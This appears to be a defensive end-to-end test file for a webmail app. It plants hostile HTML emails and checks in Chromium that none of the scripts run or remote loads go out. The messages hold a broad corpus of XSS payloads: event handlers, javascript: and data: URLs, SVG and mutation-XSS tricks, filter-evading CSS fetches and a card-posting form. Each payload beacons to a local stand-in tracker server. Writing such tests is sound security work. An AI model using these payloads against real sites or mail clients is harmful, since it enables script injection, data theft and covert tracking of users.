import http from "node:http";
import type { AddressInfo } from "node:net";
import { and, eq } from "drizzle-orm";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { memberships, messages, organizations, users } from "@/db/schema";
import { addImapAccount } from "@/lib/imap/add-imap-account";
import { syncAccount } from "@/lib/sync/sync-account";
import { type DovecotServer, startDovecot } from "@/tests/support/dovecot";
import { appendMessages, withSeedClient } from "@/tests/support/mail-seed";
import { createTestDatabase, type TestDatabase } from "@/tests/support/test-database";
import { launchChromium, mailFrame, screenshot, signInWithEmail } from "./support/browser";
import { ensureProductionBuild, type NextServer, startNextServer } from "./support/next-server";

/*
 * A corpus of XSS and tracking vectors, each in real mail synced from Dovecot and opened in Chromium
 * over `next build` + `next start`. Every vector points at a local "remote" server (another origin)
 * that records each request's path, and every script payload tries to signal that it ran: a request
 * to that server, `top.document.title=`, `parent.postMessage`, `console.log`, `alert`.
 *
 * Asserted per message: nothing reaches the pixel server and no script signals, before "Show images";
 * after it, only the message's <img> images reach it (paths under /img/, fetched as images), and
 * still no script. The frame's body URL opened as a top-level page (our origin) runs nothing either.
 */

const EMAIL = "alice@example.test";
const TITLE_MARK = "PWNED";

let dovecot: DovecotServer;
let testDb: TestDatabase;
let server: NextServer;
let browser: Browser;
let page: Page;
let pixel: Awaited<ReturnType<typeof startPixelServer>>;
let slug = "";
// What the browser saw: JS dialogs, console lines, postMessages to the top page, requests to the pixel origin.
const dialogs: string[] = [];
const consoleLines: string[] = [];
const browserRequests: { url: string; type: string }[] = [];

beforeAll(async () => {
  // The test Dovecot is on loopback: syncAccount's host check must allow it.
  vi.stubEnv("THREADLINE_ALLOW_PRIVATE_HOSTS", "1");
  ensureProductionBuild();
  [dovecot, testDb, pixel] = await Promise.all([startDovecot(), createTestDatabase({ engine: "postgres" }), startPixelServer()]);
  server = await startNextServer({ DATABASE_URL: testDb.url!, THREADLINE_JOBS: "off", THREADLINE_ALLOW_PRIVATE_HOSTS: "1" });
  browser = await launchChromium();
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  // Collects messages posted to the top window (by any frame) before the app's own code runs.
  await context.addInitScript(() => {
    if (window !== window.top) return;
    const seen: string[] = [];
    (window as unknown as { __tlMessages: string[] }).__tlMessages = seen;
    window.addEventListener("message", (event) => seen.push(String(event.data)));
  });
  page = await context.newPage();
  page.on("dialog", (dialog) => {
    dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("console", (message) => consoleLines.push(message.text()));
  page.on("request", (request) => {
    if (request.url().startsWith(pixel.url)) browserRequests.push({ url: request.url(), type: request.resourceType() });
  });

  await withSeedClient(dovecot, (client) => appendMessages(client, "INBOX", MESSAGES.map((m, i) => hostileMessage(m, pixel.url, i))));
  await signInWithEmail(page, server.url, EMAIL);
  await page.waitForURL((url) => url.pathname.split("/").filter(Boolean).length === 1 && !url.pathname.startsWith("/login"));
  const [org] = await testDb.db
    .select({ id: organizations.id, slug: organizations.slug, userId: users.id })
    .from(organizations)
    .innerJoin(memberships, eq(memberships.orgId, organizations.id))
    .innerJoin(users, eq(users.id, memberships.userId))
    .where(and(eq(users.email, EMAIL), eq(organizations.personal, true)));
  slug = org!.slug;
  const account = await addImapAccount(testDb.db, {
    orgId: org!.id,
    userId: org!.userId,
    host: "127.0.0.1",
    port: dovecot.port,
    security: "none",
    user: EMAIL,
    password: "alice-password",
    emailAddress: EMAIL,
    env: { THREADLINE_ALLOW_PRIVATE_HOSTS: "1" },
  });
  const summary = await syncAccount({ db: testDb.db, account: account.id });
  expect(summary).toMatchObject({ outcome: "success", added: MESSAGES.length });
}, 600_000);

afterAll(async () => {
  vi.unstubAllEnvs();
  await browser?.close();
  await server?.stop();
  await Promise.all([dovecot?.stop(), testDb?.close(), pixel?.close()]);
});

async function expectNothingRan(page: Page, titleBefore: string, options: { titleMayBe?: string } = {}) {
  expect(dialogs).toEqual([]);
  expect(consoleLines.filter((line) => line.includes(TITLE_MARK))).toEqual([]);
  const title = await page.title();
  expect(title).not.toContain(TITLE_MARK);
  if (options.titleMayBe === undefined) expect(title).toBe(titleBefore);
  const posted = await page.evaluate(() => (window as unknown as { __tlMessages?: string[] }).__tlMessages ?? []);
  expect(posted.filter((data) => data.includes(TITLE_MARK))).toEqual([]);
  expect(pixel.hits.filter((hit) => hit.startsWith("/x/"))).toEqual([]);
}

/** Records every request path it gets (another origin than the app: a tracker's host). */
async function startPixelServer() {
  const hits: string[] = [];
  const gif = Buffer.from("R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw==", "base64");
  const srv = http.createServer((req, res) => {
    hits.push(req.url ?? "");
    res.writeHead(200, { "content-type": "image/gif", "cache-control": "no-store", "access-control-allow-origin": "*" });
    res.end(gif);
  });
  await new Promise<void>((resolve) => srv.listen(0, "127.0.0.1", resolve));
  return { url: `http://127.0.0.1:${(srv.address() as AddressInfo).port}`, hits, close: () => new Promise<void>((resolve) => srv.close(() => resolve())) };
}

type HostileMessage = { slug: string; subject: string; marker: string; images: string[]; html: (p: string, run: (id: string) => string) => string };

// A script payload that signals in every way we watch. `id` names the vector in the signal.
function runner(p: string) {
  return (id: string) =>
    `fetch('${p}/x/run-${id}');new Image().src='${p}/x/img-${id}';top.document.title='${TITLE_MARK} ${id}';parent.postMessage('${TITLE_MARK} ${id}','*');console.log('${TITLE_MARK} ${id}');alert('${TITLE_MARK} ${id}')`;
}

const MESSAGES: HostileMessage[] = [
  {
    slug: "scripts",
    subject: "Hostile 1: scripts and event handlers",
    marker: "Vectors: scripts and handlers",
    images: ["/img/scripts.gif"],
    html: (p, run) => `<html><head><script>${run("head-script")}</script></head>
<body onload="${run("body-onload")}" onpageshow="${run("body-pageshow")}">
<h2>Vectors: scripts and handlers</h2>
<script>${run("script")}</script>
<script src="${p}/x/script-src.js"></script>
<img src="nope" onerror="${run("img-onerror")}">
<img src="${p}/img/scripts.gif" onload="${run("img-onload")}" width="1" height="1">
<div onmouseover="${run("mouseover")}" style="width:100%;height:40px">hover</div>
<details open ontoggle="${run("details-ontoggle")}"><summary>details</summary>x</details>
<input autofocus onfocus="${run("input-onfocus")}">
<marquee onstart="${run("marquee")}">m</marquee>
<p><a href="javascript:${run("js-link")}">js link</a> <a href=" jav&#x09;ascript:${run("js-entity")}">entity</a>
<a href="vbscript:msgbox(1)">vbscript</a> <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<a href="${p}/x/ping-target" ping="${p}/x/ping">ping</a></p>
<body onload="${run("second-body")}">
</body></html>`,
  },
  {
    slug: "svg-mxss",
    subject: "Hostile 2: SVG, MathML and mutation XSS",
    marker: "Vectors: SVG and mXSS",
    images: [],
    html: (p, run) => `<div><h2>Vectors: SVG and mXSS</h2>
<svg onload="${run("svg-onload")}"><script>${run("svg-script")}</script><circle r="4"/></svg>
<svg><use href="${p}/x/use.svg#a"/><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0iYSIgb25sb2FkPSJhbGVydCgxKSIvPg==#a"/></svg>
<svg><image href="${p}/x/svg-image.png"/><a xlink:href="javascript:${run("svg-a")}"><text y="20">svg link</text></a>
<animate onbegin="${run("svg-animate")}" attributeName="x" dur="1s"/><set attributeName="onmouseover" to="alert(1)"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="${run("mxss-math")}"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=&quot;${run("mxss-noscript")}&quot;>"></p></noscript>
<template><img src=x onerror="${run("template")}"><script>${run("template-script")}</script></template>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${run("mxss-form")}">
<xmp><img src=x onerror="${run("xmp")}"></xmp>
<textarea><img src=x onerror="${run("textarea")}"></textarea>
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">
<div><![CDATA[<img src=x onerror="${run("cdata")}">]]></div>
<!--><img src=x onerror="${run("comment")}">-->
</div>`,
  },
  {
    slug: "css",
    subject: "Hostile 3: CSS that fetches",
    marker: "Vectors: CSS",
    images: ["/img/css.gif"],
    html: (p) => `<html><head><style>
@import url(${p}/x/import.css);
@import "${p}/x/import2.css";
@font-face{font-family:Trk;src:url(${p}/x/font.woff) format("woff")}
.f{font-family:Trk}
.bg{background:url("${p}/x/style-bg.png")}
.esc{background:u\\72l(${p}/x/style-escaped.png)}
.cmt{background:ur/**/l(${p}/x/style-comment.png)}
.set{background-image:image-set("${p}/x/image-set.png" 1x)}
.cur{cursor:url(${p}/x/cursor.cur),auto}
.lst{list-style:url(${p}/x/list.png)}
.b{behavior:url(${p}/x/behavior.htc);-moz-binding:url(${p}/x/binding.xml#x)}
.js{background:url(javascript:alert(1))}
</style></head><body>
<h2 class="f">Vectors: CSS</h2>
<div class="bg esc cmt set cur b js">classes</div>
<ul class="lst"><li>item</li></ul>
<div style="background-image:url(${p}/x/attr-bg.png)">attr bg</div>
<div style="background:u\\72l('${p}/x/attr-escaped.png')">attr escaped</div>
<div style="background:url(&quot;${p}/x/attr-entity.png&quot;)">attr entity</div>
<div style="border-image:url(${p}/x/border.png) 30 round">border image</div>
<div style="mask:url(${p}/x/mask.svg)">mask</div>
<p style="content:url(${p}/x/content.png)">content</p>
<img src="${p}/img/css.gif" style="background:url(${p}/x/img-style-bg.png)" width="1" height="1">
</body></html>`,
  },
  {
    slug: "embeds",
    subject: "Hostile 4: frames, forms, media and redirects",
    marker: "Vectors: embeds and forms",
    images: ["/img/picture-fallback.gif", "/img/plain.gif"],
    html: (p, run) => `<html><head>
<base href="${p}/x/base/">
<meta http-equiv="refresh" content="0;url=${p}/x/refresh">
<meta http-equiv="refresh" content="0;url=javascript:${run("refresh-js")}">
<link rel="stylesheet" href="${p}/x/link.css"><link rel="prefetch" href="${p}/x/prefetch">
<link rel="preload" as="image" href="${p}/x/preload.png"><link rel="dns-prefetch" href="${p}/x/dns">
<link rel="icon" href="${p}/x/icon.ico">
</head><body background="${p}/x/body-bg.png">
<h2>Vectors: embeds and forms</h2>
<iframe src="${p}/x/iframe"></iframe>
<iframe srcdoc="&lt;script&gt;${run("srcdoc")}&lt;/script&gt;"></iframe>
<iframe src="javascript:${run("iframe-js")}"></iframe>
<object data="${p}/x/object"></object><object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="${p}/x/embed"><applet code="x" codebase="${p}/x/applet"></applet>
<form action="${p}/x/form" method="post"><input name="card" value="4111"><button>Pay</button>
<button formaction="${p}/x/formaction">Pay 2</button><input type="image" src="${p}/x/input-image.png"></form>
<form action="javascript:${run("form-js")}"><input type="submit" value="go"></form>
<img srcset="${p}/x/srcset.png 1x, ${p}/x/srcset2.png 2x">
<picture><source srcset="${p}/x/picture-source.png"><img src="${p}/img/picture-fallback.gif" width="1" height="1"></picture>
<video poster="${p}/x/poster.png" src="${p}/x/video.mp4" autoplay><source src="${p}/x/video-source.mp4"><track src="${p}/x/track.vtt"></video>
<audio src="${p}/x/audio.mp3" autoplay></audio>
<table background="${p}/x/table-bg.png"><tr><td background="${p}/x/td-bg.png">cell</td></tr></table>
<img src="relative.png" alt="relative to the base">
<img src="${p}/img/plain.gif" width="1" height="1" loading="lazy">
<portal src="${p}/x/portal"></portal>
</body></html>`,
  },
];

function MESSAGES_INDEX(): [string, number][] {
  return MESSAGES.map((message, index) => [message.slug, index]);
}

function hostileMessage(message: HostileMessage, pixelUrl: string, index: number): Buffer {
  const html = message.html(pixelUrl, runner(pixelUrl));
  const date = new Date(Date.UTC(2026, 3, 1 + index, 9, 0)).toUTCString().replace("GMT", "+0000");
  return Buffer.from(
    [
      `From: Mallory ${index + 1} <mallory${index + 1}@evil.test>`,
      `To: Alice <${EMAIL}>`,
      `Subject: ${message.subject}`,
      `Date: ${date}`,
      `Message-ID: <hostile-${index + 1}@evil.test>`,
      "MIME-Version: 1.0",
      "Content-Type: text/html; charset=utf-8",
      "Content-Transfer-Encoding: base64",
      "",
      Buffer.from(html).toString("base64").replace(/.{76}/g, "$&\r\n"),
      "",
    ].join("\r\n"),
  );
}

describe("hostile HTML in Chromium", () => {
  it.each(MESSAGES_INDEX())("%s: nothing runs or loads before Show images; then only its images", async (_name, index) => {
    const message = MESSAGES[index]!;
    const [row] = await testDb.db.select({ id: messages.id, threadId: messages.threadId }).from(messages).where(eq(messages.subject, message.subject));
    pixel.hits.length = 0;
    browserRequests.length = 0;

    await page.goto(`${server.url}/${slug}/threads/${row!.threadId}`);
    const title = await page.title();
    const frame = await mailFrame(page);
    await frame.waitForSelector(`text=${message.marker}`);
    // Time for anything delayed (meta refresh 0 s, onload, animations, lazy loads) to fire.
    await page.waitForTimeout(700);
    await expectNothingRan(page, title);
    expect(pixel.hits).toEqual([]);
    expect(browserRequests).toEqual([]);
    // Sanitised away: active content and anything that fetches.
    expect(await frame.locator("script, iframe, object, embed, form, input, button, svg, math, meta[http-equiv], base[href], link, video, audio, source, template, noscript").count()).toBe(0);
    expect(await frame.locator("[onerror], [onload], [onclick], [onfocus], [ontoggle], [onbegin], [srcset], [background], [formaction], [ping], [poster]").count()).toBe(0);
    await screenshot(page, `hostile-${index + 1}-${message.slug}-blocked`);

    const remote = page.getByTestId("show-images");
    if (message.images.length === 0) {
      expect(await remote.count()).toBe(0);
    } else {
      await remote.click();
      await expect.poll(() => [...new Set(pixel.hits)].sort(), { timeout: 10_000 }).toEqual([...message.images].sort());
      await (await mailFrame(page)).waitForSelector(`text=${message.marker}`);
      await page.waitForTimeout(700);
      await expectNothingRan(page, title);
      expect([...new Set(pixel.hits)].sort()).toEqual([...message.images].sort());
      expect(pixel.hits.every((hit) => hit.startsWith("/img/"))).toBe(true);
      expect(browserRequests.every((request) => request.type === "image")).toBe(true);
      await screenshot(page, `hostile-${index + 1}-${message.slug}-images`);
    }

    // The frame's document opened on its own, as a top-level page of our origin: CSP (sandbox,
    // no scripts, no remote loads but allowed images) still holds.
    pixel.hits.length = 0;
    const src = await page.getByTestId("mail-frame").getAttribute("src");
    await page.goto(`${server.url}${src!.replace(/[?&]images=1/, "")}`);
    await page.waitForSelector(`text=${message.marker}`);
    await page.waitForTimeout(500);
    await expectNothingRan(page, await page.title(), { titleMayBe: "" });
    expect(pixel.hits).toEqual([]);
  });
});

describe("abuse limits on the real server", () => {
  it("sign-in attempts are counted per socket address: forged X-Forwarded-For buys nothing, another client is not blocked", async () => {
    // THREADLINE_TRUST_PROXY is not set, so the socket's address counts (stamped at start-up).
    const statuses: number[] = [];
    let retryAfter: string | undefined;
    for (let i = 0; i < 30 && !statuses.includes(429); i++) {
      const response = await postFrom("127.0.0.1", "/api/auth/signin/google", { "x-forwarded-for": `203.0.113.${i}`, "x-threadline-peer": `198.51.100.${i}` });
      statuses.push(response.status);
      retryAfter = response.retryAfter;
    }
    expect(statuses.at(-1)).toBe(429);
    // 20 at once (one may have refilled since the email sign-in of beforeAll).
    expect(statuses.length).toBeGreaterThanOrEqual(20);
    expect(statuses.length).toBeLessThanOrEqual(22);
    expect(Number(retryAfter)).toBeGreaterThan(0);
    // Another loopback address is another client.
    expect((await postFrom("127.0.0.2", "/api/auth/signin/google", {})).status).not.toBe(429);
    expect((await postFrom("127.0.0.1", "/api/auth/signin/google", {})).status).toBe(429);
  });
});

/** A POST from a chosen local address (fetch cannot pick one), to tell clients apart on loopback. */
function postFrom(localAddress: string, path: string, headers: Record<string, string>): Promise<{ status: number; retryAfter?: string }> {
  const { port } = new URL(server.url);
  return new Promise((resolve, reject) => {
    const request = http.request({ host: "127.0.0.1", port, path, method: "POST", localAddress, headers: { ...headers, host: `localhost:${port}`, "content-length": "0" } }, (response) => {
      response.resume();
      response.on("end", () => resolve({ status: response.statusCode ?? 0, retryAfter: response.headers["retry-after"] as string | undefined }));
    });
    request.on("error", reject);
    request.end();
  });
}
